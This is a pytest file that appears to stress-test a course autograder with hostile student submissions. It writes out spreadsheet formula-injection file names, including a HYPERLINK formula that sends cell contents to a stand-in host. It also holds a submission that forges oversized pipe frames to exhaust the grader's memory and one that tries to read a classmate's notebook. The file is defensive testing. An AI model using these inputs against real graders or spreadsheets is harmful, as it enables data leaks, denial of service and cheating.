"""The grader as a hostile class meets it (slow: the real sandbox and fork servers):
names chosen to clash with the reports or to run as spreadsheet formulas, ids that
collide by case or accents, a 5.7 MB .py file, hand-written wire frames (63 MB, and
the largest the cap lets through), with the grader's own peak memory measured; and a
grader killed midway, then run again."""

from __future__ import annotations

import csv
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from .test_grader import SOLUTIONS, nb

pytestmark = pytest.mark.slow

HEAD = "import numpy as np\nimport tensorflow as tf\nfrom facelab.model import img_to_encoding\n"
#: the grader prints its own peak resident memory (VmHWM, kB) when it is done
PEAK = ("import sys\nfrom facelab.cli import main\nrc = main(sys.argv[1:])\n"
        "hwm = [l for l in open('/proc/self/status') if l.startswith('VmHWM')][0].split()[1]\n"
        "print('GRADER_PEAK_KB', hwm, file=sys.stderr)\nsys.exit(rc)\n")
LIMIT_MB = 500


def graded_cells() -> list[str]:
    """The graded cells of the four solution notebooks."""
    cells = []
    for p in SOLUTIONS:
        cells += ["".join(c["source"]) for c in json.loads(p.read_text())["cells"]
                  if c["cell_type"] == "code" and "GRADED FUNCTION" in "".join(c["source"])]
    return cells


def huge_py(n: int = 3_000_000) -> str:
    """Honest functions beside a 3,000,000-element list literal (5.7 MB)."""
    return HEAD + "\n\n".join(graded_cells()) + "\n\nBIG = [" + ",".join("0" * n) + "]\n"


def frame_writer(payload: str) -> str:
    """pixel_distance writes a hand-made frame on every pipe it can write to."""
    return HEAD + f'''
# GRADED FUNCTION: pixel_distance
def pixel_distance(image_a, image_b):
    import os, stat, struct
    {payload}
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                os.write(fd, head)
                os.write(fd, body)
        except OSError:
            pass
    return 0.0
'''


def case_frame(mb: float) -> str:
    """A "case" frame of ``mb`` MB of empty JSON lists: the costliest JSON to parse
    (about 25 bytes of Python objects per byte), shaped as the relay forwards it."""
    return frame_writer(
        f"lists = ','.join(['[]'] * (int({mb} * 2**20) // 3))\n"
        "    body = ('{\"t\": \"case\", \"ex\": \"pixel_distance\", \"i\": 0, \"outcome\": {\"value\": ['"
        " + lists + ']}}').encode()\n"
        "    head = struct.pack('>Q', len(body))")


FRAME_63MB = case_frame(63)     # refused at its header (today's cap let it through: 1.7 GB)
FRAME_WORST = case_frame(7.9)   # the largest the cap lets through


def grade(subs, out, *extra, timeout=1500):
    r = subprocess.run([sys.executable, "-c", PEAK, "grade", str(subs), "--out", str(out), *extra],
                       capture_output=True, text=True, timeout=timeout)
    peak = [ln for ln in r.stderr.splitlines() if ln.startswith("GRADER_PEAK_KB")]
    return r, (int(peak[0].split()[1]) / 1024 if peak else None)


def rows_of(path) -> dict:
    return {row["student"]: row for row in csv.DictReader(path.open(encoding="utf-8", newline=""))}


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory, office):
    tmp = tmp_path_factory.mktemp("names")
    subs, out = tmp / "class", tmp / "out"
    subs.mkdir()
    one = SOLUTIONS[0].read_text()  # notebook 1: pixel_distance, 6 points
    names = ["gradebook.csv.ipynb", "canvas.csv.ipynb", "score_distribution.png.ipynb", "students.ipynb",
             "Bob.ipynb", "bob.ipynb", "bob-2.ipynb", "José.ipynb", "Jose\u0301.ipynb", "JOSE.ipynb",
             '=HYPERLINK("http:__example.invalid_"&A1,"click").ipynb', "+SUM(1,1).ipynb", "@SUM(A1).ipynb",
             "\tTAB.ipynb", "\rCR.ipynb"]
    for n in names:
        (subs / n).write_text(one)
    (subs / "-2+3.ipynb").write_text(SOLUTIONS[1].read_text())  # notebook 2: triplet_loss only
    (subs / "huge.py").write_text(huge_py())
    (subs / "frame_63mb.py").write_text(FRAME_63MB)
    (subs / "frame_worst.py").write_text(FRAME_WORST)
    (subs / "zz_correct").mkdir()
    for p in SOLUTIONS:
        (subs / "zz_correct" / p.name).write_text(p.read_text())
    r, peak = grade(subs, out, "--jobs", "2", "--budget", "120")
    assert r.returncode == 0, r.stderr[-3000:]
    return {"out": out, "names": names + ["-2+3.ipynb", "huge.py", "frame_63mb.py", "frame_worst.py", "zz_correct"],
            "rows": rows_of(out / "gradebook.csv"), "peak": peak, "stderr": r.stderr, "stdout": r.stdout}


def test_no_name_stops_the_reports(hostile_class):
    out = hostile_class["out"]
    for f in ("gradebook.csv", "canvas.csv", "summary.json", "summary.txt", "score_distribution.png"):
        assert (out / f).is_file() and (out / f).stat().st_size > 0, f
    summary = json.loads((out / "summary.json").read_text())
    assert summary["students"] == len(hostile_class["names"]) == len(summary["scores"])
    for row in hostile_class["rows"].values():
        assert (out / "students" / row["student"] / "results.json").is_file()


def test_ids_are_unique_also_ignoring_case_and_accents(hostile_class):
    rows = hostile_class["rows"]
    ids = list(rows)
    assert len(ids) == len(hostile_class["names"])
    assert len({i.casefold() for i in ids}) == len(ids)
    assert all(set(i) <= set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._-") for i in ids)
    by_name = {row["name"].lstrip("'"): row for row in rows.values()}
    assert by_name["bob-2.ipynb"]["student"] == "bob-2"  # no longer the second "bob"
    assert by_name["Bob.ipynb"]["total"] == by_name["bob.ipynb"]["total"] == by_name["bob-2.ipynb"]["total"] == "6"
    assert by_name["-2+3.ipynb"]["total"] == by_name["-2+3.ipynb"]["triplet_loss"] != "0"  # notebook 2 only
    canvas = list(csv.reader((hostile_class["out"] / "canvas.csv").open(encoding="utf-8", newline="")))
    logins = [r[3] for r in canvas[2:]]
    assert len(logins) == len(set(logins)) == len(ids)


def test_no_cell_a_student_named_is_a_formula(hostile_class):
    for report in ("gradebook.csv", "canvas.csv"):
        for row in csv.reader((hostile_class["out"] / report).open(encoding="utf-8", newline="")):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (report, cell)
    names = {row["name"] for row in hostile_class["rows"].values()}
    assert "'=HYPERLINK(\"http:__example.invalid_\"&A1,\"click\").ipynb" in names  # kept, as text
    assert "'+SUM(1,1).ipynb" in names and "'@SUM(A1).ipynb" in names and "'-2+3.ipynb" in names


def test_the_huge_file_is_read_in_a_limited_child_and_its_honest_functions_graded(hostile_class):
    row = hostile_class["rows"]["huge"]
    assert row["total"] == row["max"], row  # the 5.7 MB literal is left out, the functions kept
    res = json.loads((hostile_class["out"] / "students" / "huge" / "results.json").read_text())
    assert "BIG = [0,0" in res["output"] and "left out" in res["output"]


def test_hand_written_frames_cost_the_writer_only(hostile_class):
    rows = hostile_class["rows"]
    for name in ("frame_63mb", "frame_worst"):
        assert float(rows[name]["pixel_distance"]) < float(rows["zz_correct"]["pixel_distance"]), rows[name]
    assert rows["zz_correct"]["total"] == rows["zz_correct"]["max"]


def test_the_grader_process_stays_under_500_mb(hostile_class):
    peak = hostile_class["peak"]
    print(f"grader peak resident memory (VmHWM): {peak:.0f} MB")
    assert peak is not None and peak < LIMIT_MB, peak


PEEK = HEAD + """
# GRADED FUNCTION: pixel_distance
def pixel_distance(image_a, image_b):
    try:
        open({path!r}).read()
        return -1.0           # a finished classmate's notebook was readable
    except OSError:
        return float(np.linalg.norm(image_a - image_b))
"""


def test_a_grader_killed_midway_keeps_every_finished_student(office):
    """In user mode (secrets by permissions), in a world-readable class folder: the re-run
    keeps the finished students, grades the rest, and the finished ones' files stay out
    of reach of the students graded in the re-run."""
    import shutil
    import tempfile

    root = Path(tempfile.mkdtemp(prefix="facelab-test-kill-", dir="/tmp"))
    try:
        os.chmod(root, 0o755)
        subs, out = root / "class", root / "out"
        subs.mkdir()
        os.chmod(subs, 0o755)
        names = [f"s{k:02d}" for k in range(8)]
        for n in names:  # folders: each one is a secret of its own (a file's folder would be the class)
            (subs / n).mkdir()
            os.chmod(subs / n, 0o755)  # world-readable, whatever the umask
            (subs / n / "work.ipynb").write_text(nb(HEAD, *[c for c in graded_cells() if "pixel_distance" in c]))
            os.chmod(subs / n / "work.ipynb", 0o644)
        (subs / "s07" / "work.ipynb").unlink()
        (subs / "s07" / "peek.py").write_text(PEEK.format(path=str(subs / "s00" / "work.ipynb")))
        os.chmod(subs / "s07" / "peek.py", 0o644)
        cmd = [sys.executable, "-m", "facelab.cli", "grade", str(subs), "--out", str(out), "--jobs", "1",
               "--sandbox", "user"]
        proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        deadline = time.monotonic() + 900
        while len(list(out.glob("students/*/record.json"))) < 3 and time.monotonic() < deadline:
            assert proc.poll() is None, "the grader finished before it could be killed"
            time.sleep(0.05)
        proc.send_signal(signal.SIGKILL)
        proc.wait()
        kept = {p.parent.name: p.stat().st_mtime_ns for p in out.glob("students/*/record.json")}
        assert 3 <= len(kept) < len(names) and not (out / "gradebook.csv").exists()
        assert "s00" in kept and "s07" not in kept
        for sid in kept:
            assert json.loads((out / "students" / sid / "results.json").read_text())["score"] == 6
        leftovers = [p for p in os.listdir("/tmp") if p.startswith("facelab-run-")]
        r = subprocess.run(cmd, capture_output=True, text=True, timeout=900)
        assert r.returncode == 0, r.stderr[-2000:]
        assert f"{len(kept)} of {len(names)} students already graded" in r.stderr
        for sid, mtime in kept.items():  # the finished students were not graded again
            assert (out / "students" / sid / "record.json").stat().st_mtime_ns == mtime
        rows = rows_of(out / "gradebook.csv")
        assert sorted(rows) == names and all(r["total"] == "6" for r in rows.values()), rows
        assert not set(leftovers) & set(os.listdir("/tmp"))  # the killed run's folder is gone
        r = subprocess.run(cmd, capture_output=True, text=True, timeout=900)
        assert f"{len(names)} of {len(names)} students already graded" in r.stderr and "sandbox:" not in r.stderr
        # a latecomer: the students graded by earlier runs stay secret from it
        (subs / "s08").mkdir()
        os.chmod(subs / "s08", 0o755)
        (subs / "s08" / "peek.py").write_text(PEEK.format(path=str(subs / "s00" / "work.ipynb")))
        os.chmod(subs / "s08" / "peek.py", 0o644)
        for n in names:  # the killed run left them stricter, and the class folder is no
            # grader's to put back (the package's secrets are: see below); a fresh unzip
            os.chmod(subs / n, 0o755)
        import facelab
        exercises = Path(facelab.__file__).parent / "exercises.py"
        assert exercises.stat().st_mode & 0o004, "the killed run's package modes were put back"
        r = subprocess.run(cmd, capture_output=True, text=True, timeout=900)
        assert f"{len(names)} of {len(names) + 1} students already graded" in r.stderr
        assert rows_of(out / "gradebook.csv")["s08"]["total"] == "6", r.stdout
    finally:
        shutil.rmtree(root, ignore_errors=True)
